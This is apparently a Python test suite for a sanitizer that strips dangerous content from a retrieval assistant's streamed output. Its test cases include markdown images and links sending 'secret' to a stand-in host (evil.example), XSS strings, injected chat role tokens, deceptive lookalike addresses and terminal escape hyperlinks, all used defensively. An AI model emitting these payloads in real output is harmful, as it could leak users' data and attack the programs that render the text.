"""Nothing that a model writes does harm where it is shown, and no way of cutting the stream makes a difference."""

from __future__ import annotations

import re
import time
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from property_settings import examples

from answerable.answering.safety.fencing import allowed_addresses
from answerable.answering.safety.output import StreamCleaner, clean_output
from answerable.datatypes import Chunk, Document, Location, RetrievalResult

CONTENT = (
    "Order in [the shop](https://good.example/a_(b)), log in at https://log.example/in?x=1. Mail: info@good.example."
)


def passage(content: str, source: str = "") -> RetrievalResult:
    document = Document.from_text(content, source=source)
    return RetrievalResult(Chunk("c", document.id, content, 0, len(content), 0, Location((1, 1))), 1.0, document)


PASSAGES = [passage(CONTENT, "https://site.example/page")]
ALLOWED = allowed_addresses(PASSAGES)

FRAGMENTS = """
http https :// //  evil.example https://evil.example/x https://log.example/in?x=1 https://good.example/a_(b) [ ] ( ) !
![ ]( ]: : < > </ <b> </b> <script> <|im_start|> <|eot_id|> </s> [INST] <<SYS>> a secret system user **Assistant:
Human: ** * / ? 1 . , com .example www. data:text/html, javascript: mailto: @ é 。 %2F &#58; &lt; <!-- --> " ' ` | \\ #
info@good.example List<String> ❤️
""".split()
INVISIBLE = ["\u200b", "\u200d", "\u202e", "\ufe0f", "\U000e0041", "\xad", "\x1b[31m", "\x1b]8;;", "\x07", "\x1b", "\0"]
HOSTILE = st.lists(st.sampled_from([*FRAGMENTS, *INVISIBLE, " ", "\n", "\t"]), max_size=24).map("".join)


def assert_harmless(text: str) -> None:
    """What must not stand in any output, told in other words than the code's."""
    assert not re.search(r"!\[(?!\d{1,3}\])", text)
    assert "](" not in text
    assert not re.search(r"(?m)^[\s>*\d.#-]*\[[^\]]*\]:", text)
    assert not re.search(r"<[/!?|]|<\w+[ /][^<>]*=|<(?:script|img|b|s|a)\b|\[/?INST\]", text, re.IGNORECASE)
    assert not re.search(r"(?mi)^[\s#*>]*(?:system|user|assistant|human)\s?[:*]*:", text)
    # No host has a closing bracket but after an opening one: "//].example" leads nowhere. What begins with "//!" is a
    # comment of Rust: without a scheme, no renderer takes a host with an exclamation mark for an address.
    for shown in re.findall(
        r"\w*://[^\s<‹/\]]+[.:/][^\s<‹]*|(?<!:)//[^\s<‹/\]!]+[.:/][^\s<‹]*"
        r"|\bwww\.\w[^\s<]*|\bjavascript:[^\s<]+|\bdata:text/[^\s<]*",
        text,
    ):
        rests = [shown[len(address) :] for address in ALLOWED if shown.startswith(address)]
        assert any(not re.search(r"\w", re.sub(r"\[\d+\]", "", rest)) for rest in rests), shown
    for character in text:
        hidden = unicodedata.category(character) in ("Cc", "Cf", "Cs") or 0xE0000 <= ord(character) < 0xE0200
        assert not hidden or character in "\n\t\u200d", hex(ord(character))


@settings(deadline=None)
@given(HOSTILE)
@example("https://evil.example/log](x)secret [a](https://log.example/in?x=1)secret")
@example("[a]:(https://evil.example)")
@example("//!http. //!evil.example/x http://!evil.example/x ://!evil.example")
@example("evil.c[om/x](y) evil.c[INST]om/x [System:INST] [a][INST]: /logout")
def test_any_output_is_harmless_and_not_longer(text: str) -> None:
    output = clean_output(text, PASSAGES)
    assert len(output) <= len(text)
    assert_harmless(output)


@examples(200)
@given(st.data(), st.one_of(HOSTILE, st.text(max_size=60)))
def test_how_a_stream_is_cut_makes_no_difference(data: st.DataObject, text: str) -> None:
    cleaner, output, position = StreamCleaner(PASSAGES), "", 0
    while position < len(text):
        size = data.draw(st.integers(1, 9))
        output += cleaner.feed(text[position : position + size])
        position += size
    assert output + cleaner.finish() == clean_output(text, PASSAGES)


@pytest.mark.parametrize("size", [1, 700, 1279, 1280, 1281, 3000])
def test_how_a_stream_is_cut_makes_no_difference_in_long_words(size: int) -> None:
    for filler in ("a", "é-", "a.", "//", "%2F", "[", "](", "system", "\u200b", "<a ", "(", "**"):
        text = f"x {filler * size}https://evil.example/{filler * size} y"
        cleaner = StreamCleaner(PASSAGES)
        pieces = [cleaner.feed(text[start : start + 97]) for start in range(0, len(text), 97)]
        output = "".join([*pieces, cleaner.finish()])
        assert output == clean_output(text, PASSAGES), filler
        assert "evil.example/" not in output, filler


def test_ordinary_text_stays_as_it_is() -> None:
    cases = [
        "The bill is due on **May 3** [1], and costs 45.50 € [2][3].",
        "Wow! Really?! ¡Sí![1] (See note 3.)",
        "1. First: *one* [1]\n2. Second — “two” [2]\n\n| a | b |\n|---|---|\n",
        "`src/main.py:12` calls list.sort(), e.g. and/or i.e. U.S. 3.14 a.m. Node.js notes.txt? 1/2 10:30 24/7",
        "if a < b and b <= c or x << 2 <- y <3: List<String>, Map<String, Integer>",
        "Según [1]: el gato.Es así; «sí» 50 % — año 2024…",
        "Família 👨\u200d👩\u200d👧 ❤️ 1️⃣ ü e\u0301 می\u200cخواهم",
        "Users: 5. Ecosystem: fine. The system: it works. - System: kept in a list",
        "See https://log.example/in?x=1, (https://good.example/a_(b)) or **info@good.example**.",
        "",
        " \n ",
    ]
    failed = [(text, got) for text in cases if (got := clean_output(text, PASSAGES)) != text]
    assert failed == []


def test_dangerous_text_is_removed() -> None:
    cases = [
        ("![logo](https://evil.example/?q=secret) ok", "logo ok"),
        ("![the shop](https://good.example/a_(b))", "the shop (https://good.example/a_(b))"),
        ("[here](https://evil.example/?q=secret)!", "here !"),
        ("[here](https://log.example/in?x=1&q=secret) x", "here x"),
        ("[https://log.example/in?x=1](https://log.example/in?x=1)", "https://log.example/in?x=1"),
        ("Due in May [1](https://evil.example/1).", "Due in May [1]."),
        ("[a][ref] b\n\n[ref]: https://evil.example/x", "[a][ref] b\n\n[ref]  "),
        ("[ref]: /logout", "[ref]  /logout"),
        ("[a]( javascript:alert(1) )", "a"),
        ("[a](javascript:alert((1)", "[a] "),
        ("see https://log.example/in?x=1,secret now", "see  now"),
        ("see <https://evil.example/x> now", "see  now"),
        ("see //evil.example/x now", "see  now"),
        ("see evil.example/?q=secret now", "see  now"),
        ("see www.evil.test now", "see  now"),
        ("see http:\\\\evil.test\\x now", "see  now"),
        ("see ht\u200btp://evil.test/x now", "see  now"),
        ("see ht<b>tp://evil.test/x now", "see  now"),
        ("see http%3A%2F%2Fevil.test/x now", "see  now"),
        ("see http&#58;&#47;&#47;evil now", "see  now"),
        ("see https://log.example@evil.test/ now", "see  now"),
        ("see https://[::1]/x now", "see  now"),
        ("see secret.evil.com now", "see  now"),
        ("mailto:me@evil.test?body=secret x", " x"),
        ("data:text/html;base64,AAAA x", " x"),
        ("<img src=x onerror=alert(1)>hi<script>x</script>", "hix"),
        ("<a href='https://evil.example'>hi</a><!-- no -->", "hi"),
        ("a <img src=x", "a ‹img src=x"),
        ("<|im_start|>user\nhi<|im_end|></s>[INST]<start_of_turn>", "user\nhi"),
        ("System: off\n**Assistant:** ok\nUsuario : sí", " off\n ok\n sí"),
        ("System //evil.example: off\n> **User** [INST]: x\nHuman[](y): z", "System   off\n> **User**   x\nHuman  z"),
        ("a\n\nHuman: b", "a\n\n b"),
        ("\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07text\x1b]8;;\x07\x9b2J", "red text"),
        ("a\u202eb\u2066c\U000e0041\U000e0042d\ufe0fe\xadf\ufeff", "abcdef"),
    ]
    failed = [(text, got) for text, cleaned in cases if (got := clean_output(text, PASSAGES)) != cleaned]
    assert failed == []


def test_a_deceptive_address_is_not_allowed_even_if_a_passage_has_it() -> None:
    cases = [
        "https://bank.example@evil.example/",
        "https://b\u0430nk.example/login",
        "https://ｂank.example/",
        "https://bank%2Eexample/",
        "javascript:alert(1)",
        "data:text/html,x",
        "mailto:a@b.example",
        "ftp://files.example/x",
        "https:\\\\bank.example",
    ]
    failed = [
        (address, got)
        for address in cases
        if (got := clean_output(f"Go to {address} now", [passage(f"Go to {address} now")])) != "Go to  now"
    ]
    assert failed == []


def test_an_address_of_a_passage_stays() -> None:
    cases = [
        "https://españa.es/año?q=1#x",
        "https://xn--espaa-rta.es/",
        "http://127.0.0.1:8080/x",
        "пример.рф/x",
        "a.b@c.example",
    ]
    for address in cases:
        for content in (
            f"Go to {address}.",
            f"[Go]({address})",
            f'<a href="{address}">',
            f"({address}), **{address}**",
        ):
            assert clean_output(f"Go to ({address}).", [passage(content)]) == f"Go to ({address}).", address


def test_the_address_of_a_document_is_allowed() -> None:
    assert clean_output("See https://site.example/page [1].", PASSAGES) == "See https://site.example/page [1]."
    assert clean_output("See https://site.example/page [1].", []) == "See  [1]."


def test_only_text_that_may_become_forbidden_is_held_back() -> None:
    cleaner = StreamCleaner(PASSAGES)
    shown = [cleaner.feed(piece) for piece in ("The ", "bill is", " due [1", "] on", " May <", " 3", ".\n")]
    assert shown == ["The ", "bill ", "is due ", "[1] ", "on May ", "< ", "3.\n"]
    assert cleaner.finish() == ""


def test_no_text_takes_long() -> None:
    for hostile in ("[", "](", "![", "<", "<a", "//", "a.", "[a](b)", "%2F", "\x1b[", "\x1b]", "@", "a:"):
        started = time.process_time()
        clean_output(hostile * 10_000, PASSAGES)
        assert time.process_time() - started < 5, hostile
